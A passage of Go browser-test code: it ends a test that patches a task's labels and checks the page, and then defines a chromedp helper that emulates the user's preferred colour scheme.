	s.do("PATCH", "/tasks/"+id, `{"labels":["soon"]}`).is(200)
	b.sees("soon")
}

// emulate makes a page believe that its person prefers a theme.
func emulate(theme string) chromedp.Action[chromedp.Void] {
	return func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
		_, err := cdp.Call(ctx, target, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: theme}}})
		return chromedp.Void{}, err
	}
}
